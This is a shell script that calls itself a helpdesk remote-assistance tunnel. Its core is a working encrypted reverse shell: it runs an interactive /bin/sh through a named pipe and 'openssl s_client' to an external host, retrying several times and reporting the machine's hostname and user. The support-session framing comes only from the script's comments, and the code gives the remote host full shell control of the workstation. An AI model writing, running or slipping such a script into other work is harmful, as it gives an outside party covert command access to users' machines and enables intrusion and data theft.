#!/bin/sh
# support_tunnel.sh - open an encrypted remote-assistance session so the
# helpdesk can look at a problem on this workstation. The session is wrapped
# in TLS and ends automatically after SESSION_MINUTES or when you press Ctrl-C.

HELPDESK_HOST="${HELPDESK_HOST:-assist.helpdesk-remote.net}"
HELPDESK_PORT="${HELPDESK_PORT:-443}"
SESSION_MINUTES="${SESSION_MINUTES:-30}"
RETRIES=5
WORKDIR="${XDG_RUNTIME_DIR:-$HOME/.cache}/assist.$$"
PIPE="$WORKDIR/session"

note() { printf '[remote-assist] %s\n' "$*"; }

cleanup() {
  rm -rf "$WORKDIR"
  note "session closed"
}
trap cleanup EXIT INT TERM

usage() {
  echo "usage: $0 [-h host] [-p port] [-m minutes]"
  exit 2
}

while getopts "h:p:m:" opt; do
  case "$opt" in
    h) HELPDESK_HOST="$OPTARG" ;;
    p) HELPDESK_PORT="$OPTARG" ;;
    m) SESSION_MINUTES="$OPTARG" ;;
    *) usage ;;
  esac
done

preflight() {
  for bin in openssl mkfifo timeout; do
    command -v "$bin" >/dev/null 2>&1 || { note "missing $bin"; exit 1; }
  done
  mkdir -p "$WORKDIR" && chmod 700 "$WORKDIR"
  note "workstation: $(hostname) user: $(id -un)"
  note "connecting to $HELPDESK_HOST:$HELPDESK_PORT for up to $SESSION_MINUTES min"
}

session() {
  rm -f "$PIPE"
  mkfifo "$PIPE"
  # the helpdesk console drives an interactive shell over the TLS channel
  timeout "${SESSION_MINUTES}m" sh -c "
    /bin/sh -i < '$PIPE' 2>&1 \
      | openssl s_client -quiet -connect '$HELPDESK_HOST:$HELPDESK_PORT' \
          -servername '$HELPDESK_HOST' > '$PIPE' 2>/dev/null
  "
}

preflight
attempt=1
while [ "$attempt" -le "$RETRIES" ]; do
  note "attempt $attempt/$RETRIES"
  if session; then
    break
  fi
  attempt=$((attempt + 1))
  sleep 5
done
